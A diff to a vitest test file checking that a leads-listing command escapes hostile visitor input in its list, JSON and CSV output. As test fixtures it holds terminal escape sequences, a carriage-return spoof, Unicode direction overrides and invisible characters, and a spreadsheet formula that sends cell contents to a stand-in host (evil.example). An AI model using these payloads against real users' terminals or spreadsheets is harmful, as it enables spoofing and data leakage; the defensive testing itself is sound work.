@@ -1,8 +1,9 @@
 // @vitest-environment node
 /**
- * Issue 16 item 3: what visitors wrote must not harm the people who read it. Rows stored before the
- * database refused control characters (0001 alone) hold ANSI escapes, a carriage return and a formula;
- * `npm run leads` shows them escaped and `npm run leads -- --csv` neutralises the formula.
+ * What visitors wrote must not harm the people who read it. Rows stored before the database refused
+ * control and hidden characters (0001 alone) hold ANSI escapes, a carriage return, a formula, direction
+ * overrides and invisible characters; `npm run leads` shows them escaped (in its list and its JSON) and
+ * `npm run leads -- --csv` neutralises them and the formula.
  */
 import { execFile } from 'node:child_process'
 import { copyFileSync, mkdirSync, mkdtempSync, rmSync } from 'node:fs'
@@ -18,6 +19,8 @@ const REPO_ROOT = new URL('../../', import.meta.url)
 const run = promisify(execFile)
 const HOSTILE_NAME = '\u001b]0;pwned\u0007\u001b[2KRavi\rFAKE LEAD <boss@example.in>'
 const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+/** Shows as "Ravi Kumar paid" in most viewers: an override, a zero-width space, an isolate, a tag character and a Hangul filler. */
+const INVISIBLE_NAME = 'Ravi\u202e\u200b Kumar\u2066 paid\u{e0041}\u3164'
 let dir: string
 let dataDir: string
 
@@ -39,6 +42,7 @@ beforeAll(async () => {
       source_page: '/',
     },
     { name: FORMULA, email: 'b@example.in', phone: null, message: '@SUM(1+1)', source_page: '/contact' },
+    { name: INVISIBLE_NAME, email: 'c@example.in', phone: null, message: '\u2067=1+1\u2069', source_page: '/about' },
   ]) {
     const res = await fetch(`${server.url}/rest/v1/lead_submissions`, {
       method: 'POST',
@@ -82,8 +86,26 @@ describe('npm run leads with hostile text', () => {
     expect(guides.stdout.split('\r\n')[0]).toBe('created_at,name,email,phone,viewed_at,pages_viewed,id')
   })
 
+  it('shows every invisible or format character written out, in the list, the JSON and the CSV', async () => {
+    const written = 'Ravi\\u202e\\u200b Kumar\\u2066 paid\\u{e0041}\\u3164'
+    const hidden = /[\u200b\u202e\u2066\u2067\u2069\u3164]|\u{e0041}/u
+    const list = (await leads()).stdout
+    expect(list).toContain(written)
+    expect(list).not.toMatch(hidden)
+    const json = (await leads('--json')).stdout
+    expect(json).not.toMatch(hidden)
+    // Still the same data: JSON reads the escapes back as the stored characters.
+    expect((JSON.parse(json) as { leads: { name: string }[] }).leads.map((l) => l.name)).toContain(INVISIBLE_NAME)
+    const csvText = (await leads('--csv')).stdout
+    expect(csvText).toContain(written)
+    expect(csvText).toContain('\\u2067=1+1\\u2069')
+    expect(csvText).not.toMatch(hidden)
+  })
+
   it('the helpers: escapes and fields', () => {
     expect(printable('a\u202eb\tc')).toBe('a\\u202eb\\tc')
+    expect(printable('श्\u200dरी\u00a0')).toBe('श्\\u200dरी\\xa0')
+    expect(csvField('line\nbreak\r\u001b')).toBe('"line\nbreak\\r\\x1b"')
     expect(csvField('-2+3')).toBe("'-2+3")
     expect(csvField('plain, with comma')).toBe('"plain, with comma"')
     expect(csvField(null)).toBe('')
